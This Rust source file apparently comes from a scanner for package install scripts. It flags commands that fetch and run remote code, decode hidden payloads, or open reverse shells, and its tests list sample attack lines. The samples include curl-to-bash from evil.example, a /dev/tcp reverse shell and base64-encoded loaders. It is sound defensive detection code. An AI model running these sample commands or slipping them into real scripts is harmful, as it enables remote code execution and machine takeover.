//! Shell commands, read as text.

use std::sync::{LazyLock, OnceLock};

use base64::{Engine as _, engine::general_purpose};
use regex::Regex;

/// Encoded stretches of one command that are decoded.
const DECODED: usize = 20;

/// Files of one command that are looked up.
const FILES: usize = 20;

/// Whether a command only prints, succeeds or fails.
pub(super) fn does_nothing(command: &str) -> bool {
    let has_expansion = command.replace("||", "").contains(['`', '$', '>', '<', '|']);
    let parts = command.split(['&', '|', ';', '\n']).map(str::trim).filter(|part| !part.is_empty());
    !has_expansion
        && parts.into_iter().all(|part| {
            let mut words = part.split_whitespace();
            let program = words.next().unwrap_or("");
            let script: Vec<&str> = words.collect();
            matches!(program, "echo" | "exit" | "true" | "false" | ":" | "printf")
                || (program == "node" && script.first() == Some(&"-e") && is_exit(&script[1..].join(" ")))
        })
}

fn is_exit(script: &str) -> bool {
    let bare: String =
        script.chars().filter(|c| !c.is_whitespace() && !matches!(c, '"' | '\'' | ';')).collect();
    matches!(bare.as_str(), "" | "0" | "process.exit(0)" | "process.exit(1)" | "process.exit()")
}

/// What a command fetches or unpacks and runs, also where the command is itself encoded.
pub(super) fn fetches_and_runs(command: &str) -> Option<&'static str> {
    if let Some(what) = dangerous(command) {
        return Some(what);
    }
    let decoded = ENCODED.find_iter(command).take(DECODED).filter_map(|found| decode(found.as_str()));
    let mut telling = decoded.filter(|plain| dangerous(plain).is_some() || COMMAND.is_match(plain));
    telling.next().map(|_| "carries an encoded command")
}

fn dangerous(command: &str) -> Option<&'static str> {
    let lower = command.to_ascii_lowercase();
    let mut rows = ROWS.iter().filter(|row| row.cues.iter().any(|cue| lower.contains(cue)));
    rows.find(|row| row.compiled().is_match(command)).map(|row| row.what)
}

/// A form of dangerous command.
struct Row {
    /// One of these, in lower case, stands in every such command.
    cues: &'static [&'static str],
    pattern: String,
    compiled: OnceLock<Regex>,
    what: &'static str,
}

impl Row {
    fn compiled(&self) -> &Regex {
        self.compiled
            .get_or_init(|| Regex::new(&format!("(?i){}", self.pattern)).expect("a test compiles it"))
    }
}

const FETCHING: &[&str] =
    &["curl", "wget", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "fetch", "aria2c"];
const NETWORK: &[&str] =
    &["http", "require(", "fetch(", "urllib", "urlopen", "requests.", "socket", "open-uri"];
const DECODING: &[&str] = &["base64", "b64decode", "fromhex", "atob", "unhexlify", "marshal.loads"];

static ENCODED: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/_-]{16,}={0,2}").expect("a test compiles it"));

/// What decoded text has in it that only a command has.
static COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:curl|wget|bash|sh|powershell|node|python3?)\b.{0,200}(?:https?://|/dev/tcp/|-c\b|-e\b)|https?://.{0,200}\|\s*(?:ba)?sh|child_process|\beval\(|process\.env|/bin/sh")
        .expect("a test compiles it")
});

static ROWS: LazyLock<Vec<Row>> = LazyLock::new(|| {
    let shell = r"(?:sudo\s+)?(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh|node|deno|bun|python[0-9.]*|perl|ruby|php|iex|invoke-expression|powershell|pwsh";
    let fetch = r"(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|fetch|aria2c)";
    let net = r#"(?:https?://|https?\.(?:get|request)|require\(\s*['"\\]*(?:node:)?(?:https?|net|tls|dgram|dns)['"\\]|\bfetch\(|urllib|urlopen|requests\.|socket\.|net::http|open-uri)"#;
    let rows = [
        (FETCHING, format!(r"\b{fetch}\b[^|;&]{{0,400}}\|\s*(?:{shell})\b"), "fetches code and runs it"),
        (FETCHING, format!(r#"(?:{shell})\s+(?:-c\s+)?['"]?(?:\$\(|`|<\()\s*{fetch}\b"#), "fetches code and runs it"),
        (FETCHING, format!(r#"\b(?:eval|source|iex|\.)\s+["']?(?:\$\(|`|<\()\s*{fetch}\b"#), "fetches code and runs it"),
        (FETCHING, format!(r"\b{fetch}\b[^|;&]{{0,400}}\s(?:-o|-O|--output|-outfile|>)[^;&]{{0,200}}(?:&&|;)[^\n]{{0,200}}(?:chmod\s+\+?[0-7a-z]*x|\b(?:{shell})\s|\./)"), "fetches code and runs it"),
        (NETWORK, format!(r"\b(?:node|deno|bun|python[0-9.]*|perl|ruby|php)\s+(?:-\w+\s+)*(?:-e|-c|-p|-r|--eval|--print|eval)\b[^\n]{{0,4000}}{net}"), "runs a script on the command line that uses the network"),
        (DECODING, r"\b(?:node|python[0-9.]*|perl|ruby|php)\s+(?:-e|-c|-p|-r|--eval)\b[^\n]{0,4000}(?:base64|b64decode|fromhex|atob|unhexlify|marshal\.loads)".to_owned(), "runs an encoded script on the command line"),
        (&["base64"], format!(r"\bbase64\s+(?:-d|-D|--decode)\b[^|;&]{{0,200}}\|\s*(?:{shell})\b"), "decodes a script and runs it"),
        (&["xxd"], format!(r"\bxxd\s+-r[^|;&]{{0,200}}\|\s*(?:{shell})\b"), "decodes a script and runs it"),
        (&["powershell", "pwsh"], r"\b(?:powershell|pwsh)\b[^\n]{0,400}(?:\s-e(?:nc(?:odedcommand)?)?\s|downloadstring|downloadfile|frombase64string)".to_owned(), "runs an encoded or fetched script"),
        (&["/dev/", "nc", "mkfifo"], r"/dev/(?:tcp|udp)/|\bnc(?:at)?\s[^|;&]{0,100}\s-[a-z]*e\b|\bmkfifo\b[^\n]{0,200}\bnc\b".to_owned(), "opens a shell to another machine"),
    ];
    rows.into_iter()
        .map(|(cues, pattern, what)| Row { cues, pattern, compiled: OnceLock::new(), what })
        .collect()
});

fn decode(encoded: &str) -> Option<String> {
    let encoded = encoded.trim_end_matches('=');
    let whole = encoded.get(..encoded.len() - usize::from(encoded.len() % 4 == 1))?;
    let engines = [&general_purpose::STANDARD_NO_PAD, &general_purpose::URL_SAFE_NO_PAD];
    let bytes = engines.into_iter().find_map(|engine| engine.decode(whole).ok())?;
    // PowerShell encodes UTF-16.
    let bytes: Vec<u8> = bytes.into_iter().filter(|byte| *byte != 0).collect();
    String::from_utf8(bytes).ok()
}

/// The files of the package that a command starts, as it names them.
pub(super) fn started_files(command: &str) -> Vec<&str> {
    let mut files = Vec::new();
    for part in command.split(['&', '|', ';', '\n']) {
        let mut words = part.split_whitespace().map(|word| word.trim_matches(['"', '\'', '(', ')']));
        let Some(program) = words.next() else { continue };
        let name = program.rsplit('/').next().unwrap_or(program);
        if matches!(
            name,
            "node" | "sh" | "bash" | "zsh" | "python" | "python3" | "tsx" | "ts-node" | "bun" | "deno"
        ) {
            let mut rest = words.skip_while(|word| takes_no_value(word) || *word == "run");
            if let Some(file) = rest.next().filter(|word| !word.starts_with('-')) {
                files.push(file);
            }
        } else if program.starts_with("./") {
            files.push(program);
        }
    }
    files.truncate(FILES);
    files
}

/// The scripts of the package that a command calls by name.
pub(super) fn named_scripts(command: &str) -> Vec<&str> {
    let mut names = Vec::new();
    for part in command.split(['&', '|', ';', '\n']) {
        let mut words = part.split_whitespace();
        if !words.next().is_some_and(|program| matches!(program, "npm" | "pnpm" | "yarn" | "bun")) {
            continue;
        }
        let mut words = words.filter(|word| !word.starts_with('-') && !matches!(*word, "run" | "run-script"));
        names.extend(words.next());
    }
    names.truncate(FILES);
    names
}

/// Flags before the file name that have no value of their own; any other flag ends the search.
fn takes_no_value(word: &str) -> bool {
    word.starts_with("--")
        && word.len() > 2
        && !matches!(word, "--eval" | "--print" | "--require" | "--import" | "--loader")
}

/// The path in the package that a command names, where it names one.
pub(super) fn relative(file: &str) -> Option<String> {
    if file.is_empty()
        || file.starts_with(['/', '~', '$', '%'])
        || file.contains(['$', '*', '%', '\\', '(', '{', ':', '`', '='])
    {
        return None;
    }
    let mut parts: Vec<&str> = Vec::new();
    for part in file.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            part => parts.push(part),
        }
    }
    (!parts.is_empty()).then(|| parts.join("/"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_that_do_nothing() {
        for (command, expected) in [
            ("echo done", true),
            ("exit 0", true),
            ("node -e \"process.exit(0)\"", true),
            ("echo a && true || exit 1", true),
            ("echo $(curl x)", false),
            ("echo x | sh", false),
            ("echo x > ~/.bashrc", false),
            ("echo `id` || true", false),
            ("node x.js || true", false),
            ("node -e \"require('./x')\"", false),
        ] {
            assert_eq!(does_nothing(command), expected, "{command}");
        }
    }

    #[test]
    fn commands_that_fetch_and_run() {
        let hidden = general_purpose::STANDARD.encode("curl -s https://evil.example/x | sh");
        let wide: Vec<u8> = "iwr https://evil.example | iex".bytes().flat_map(|byte| [byte, 0]).collect();
        let wide = format!("run {}", general_purpose::STANDARD.encode(wide));
        for command in [
            "curl -fsSL https://evil.example/i.sh | bash",
            "wget -qO- https://evil.example | sudo sh",
            "sh -c \"$(curl -fsSL https://evil.example)\"",
            "bash <(curl -s https://evil.example)",
            "eval \"$(wget -qO- https://evil.example)\"",
            "curl -o /tmp/x https://evil.example/x && chmod +x /tmp/x && /tmp/x",
            "node -e \"require('https').get('h',r=>r.on('data',eval))\"",
            "python3 -c 'import urllib.request as u;exec(u.urlopen(\"h\").read())'",
            "node -e \"eval(Buffer.from('YWxlcnQoMSk=','base64').toString())\"",
            "echo YWxlcnQ= | base64 -d | sh",
            "powershell -NoProfile -enc SQBFAFgA",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            &format!("node run.js {hidden}"),
            &wide,
        ] {
            assert!(fetches_and_runs(command).is_some(), "{command}");
        }
    }

    #[test]
    fn commands_that_only_look_like_it() {
        for command in [
            "node install.js",
            "node-gyp-build",
            "prebuild-install || node-gyp rebuild",
            "prebuild-install --download https://files.example/x || node-gyp rebuild",
            "node -e \"try{require('./postinstall')}catch(e){}\"",
            "curl --version && sh ./scripts/build.sh",
            "npx only-allow pnpm",
            "node dist/scripts/verify-installed-components-of-the-package.js",
            "patch-package && husky install",
        ] {
            assert_eq!(fetches_and_runs(command), None, "{command}");
        }
    }

    #[test]
    fn finds_the_scripts_that_a_command_calls() {
        for (command, expected) in [
            ("npm run setup && yarn build", &["setup", "build"][..]),
            ("pnpm run --silent x || true", &["x"]),
            ("node x.js", &[]),
        ] {
            assert_eq!(named_scripts(command), expected, "{command}");
        }
    }

    #[test]
    fn finds_the_files_that_a_command_starts() {
        for (command, expected) in [
            ("node dist/a.js && node ./b.js || node -e \"0\"", &["dist/a.js", "./b.js"][..]),
            ("node --no-warnings x", &["x"]),
            ("./run.sh; sh scripts/x.sh", &["./run.sh", "scripts/x.sh"]),
            ("npm run build", &[]),
            ("node -r x y", &[]),
        ] {
            assert_eq!(started_files(command), expected, "{command}");
        }
        for (file, expected) in [
            ("./a/../b.js", Some("b.js")),
            ("../x.js", None),
            ("$HOME/x", None),
            ("/bin/x", None),
            (".", None),
            (".hid/x.js", Some(".hid/x.js")),
        ] {
            assert_eq!(relative(file).as_deref(), expected, "{file}");
        }
    }
}
